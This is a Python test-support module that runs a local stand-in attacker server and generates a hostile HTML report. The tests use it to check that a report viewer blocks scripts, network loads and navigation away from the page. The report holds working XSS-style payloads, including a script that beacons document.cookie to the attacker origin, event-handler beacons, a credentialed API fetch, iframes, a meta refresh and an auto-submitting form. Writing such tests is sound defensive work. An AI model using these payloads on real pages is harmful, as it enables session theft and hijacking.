"""A server of somebody else's, and a report that does all it can to reach it."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

UNTOUCHED = "This report is untouched."
# What arrives from the report where nothing holds it back.
REACHES = frozenset(
    {"script", "fetch", "onerror", "onload", "img", "style", "css", "iframe", "svg"}
)
# How one gets away that leaves its page.
LEAVES = frozenset({"refresh", "form", "top"})


class Attacker:
    """Remembers the paths that it was asked for; serves the report at ``/control``."""

    def __init__(self, port: int) -> None:
        self.origin = f"http://127.0.0.1:{port}"
        self.asked: list[str] = []

    def beacons(self, label: str) -> set[str]:
        """Which parts of a report of this label got through."""
        prefix = f"/{label}/"
        return {path.removeprefix(prefix) for path in self.asked if path.startswith(prefix)}


@contextmanager
def listening() -> Iterator[Attacker]:
    """An attacker's server while the block runs."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            attacker.asked.append(self.path.partition("?")[0])
            is_control = self.path.startswith("/control.html")
            body = b""
            if is_control:
                leaves = "leaves" in self.path
                body = hostile_report(attacker, "control", leaves=leaves).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET  # noqa: N815 - the name that http.server looks for

        def log_message(self, *args: object) -> None:
            """Nothing on the test's terminal."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    attacker = Attacker(server.server_address[1])
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield attacker
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@contextmanager
def serving(page: str) -> Iterator[str]:
    """The address of a page that nothing holds back, while the block runs."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(page.encode())))
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *args: object) -> None:
            """Nothing on the test's terminal."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def hostile_report(attacker: Attacker, label: str, *, leaves: bool = False) -> str:
    """A report that tries scripts, handlers, loads and frames, and to leave its page if told so."""
    at = f"{attacker.origin}/{label}"
    leaving = f"""
<meta http-equiv="refresh" content="0;url={at}/refresh">
<base href="{at}/base/" target="_top">
<form id="form" method="post" action="{at}/form"><input name="a" autofocus></form>
<script>document.getElementById("form").submit(); window.top.location = "{at}/top";</script>
"""
    return f"""<!DOCTYPE html>
<html><head><title>Report</title>
<link rel="stylesheet" href="{at}/css">
<style>body {{ background: url({at}/style) }}</style>
{leaving if leaves else ""}
</head>
<body onload="new Image().src='{at}/onload'">
<p id="state">{UNTOUCHED}</p>
<script>
  document.title = "taken over";
  document.getElementById("state").textContent = "A script ran.";
  new Image().src = "{at}/script?" + encodeURIComponent(document.cookie);
  fetch("{at}/fetch");
  fetch("/api/retinopathy/ping/", {{credentials: "include"}}).then(() => fetch("{at}/api"));
</script>
<img src="/no-such-image" onerror="new Image().src='{at}/onerror'">
<img src="{at}/img">
<svg onload="new Image().src='{at}/svg'"></svg>
<iframe src="{at}/iframe"></iframe>
<iframe srcdoc="<script>new Image().src='{at}/srcdoc'</script>"></iframe>
<object data="{at}/object"></object>
<a id="top" href="{at}/link-top" target="_top">top</a>
<a id="blank" href="{at}/link-blank" target="_blank">blank</a>
<a id="script" href="javascript:document.title='taken over'">script</a>
</body></html>
"""
